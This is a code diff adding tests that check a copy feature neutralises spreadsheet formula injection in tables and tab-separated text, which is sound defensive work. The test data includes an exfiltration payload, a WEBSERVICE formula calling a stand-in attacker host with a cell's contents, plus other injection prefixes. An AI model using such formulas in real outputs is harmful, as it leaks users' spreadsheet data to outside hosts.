@@ -256,3 +256,37 @@ test.each([
     }
   },
 );
+
+describe('a formula in a row', () => {
+  const formula = '=WEBSERVICE("https://evil.example/"&A1)';
+  const words = (table: string): string => `Here it is.\n\n${table}\n\nThat was all.`;
+  test.each([
+    ['of bars', `| a | b |\n|---|---|\n| x | ${formula} |\n| ${formula} | y |`],
+    ['of uneven bars', `| a | b | c |\n|---|---|---|\n| x | ${formula} |\n| ${formula} | y | z | w |`],
+    ['in a list', `- one\n\n  | a | b |\n  |---|---|\n  | x | ${formula} |\n- two`],
+    ['of tabs', `a\tb\tc\nx\t${formula}\tz\n${formula}\ty\tz`],
+    ['of one tab', `Total\t${formula}`],
+    ['after a line of words', `Sums:\na\tb\nx\t${formula}\n${formula}\ty`],
+    ['in a fence', `\`\`\`\na\tb\nx\t${formula}\n\`\`\``],
+    ['of other signs', 'a\tb\n@SUM(A1)\t+1+cmd\n-2+3\t＝1'],
+  ])('is copied as text from a table %s, in every format', (_written, table) => {
+    for (const answered of [described(words(table)), readThere(words(table)), described(table)]) {
+      for (const format of ['shown', 'paragraphs', 'tsv'] as const) {
+        if (format === 'tsv' && !copyFormatsOf(answered).formats.includes('tsv')) continue;
+        const rows = copied(answered, format).split('\n');
+        const cells = rows.flatMap((row) => (row.trim().includes('\t') ? row.split('\t') : []));
+        expect(cells.filter((cell) => /^[\s"]*[=@＝]|^[\s"]*[+-]\d+\+/.test(cell))).toEqual([]);
+      }
+    }
+  });
+
+  test.each([
+    ['a formula alone', formula],
+    ['indented lines', 'all:\n\t@echo done\n\t- item'],
+    ['code', '```make\nall:\tone\n\t@echo\tdone\n```'],
+    ['signed numbers', 'a\tb\n-5\t+3,000.00\n\u2212\t+49 30 123456'],
+  ])('is no reason to change %s', (_what, answer) => {
+    const code = answer.replaceAll(/^```\w*\n|\n```$/g, '');
+    expect(copied(described(answer), 'shown')).toBe(code);
+  });
+});
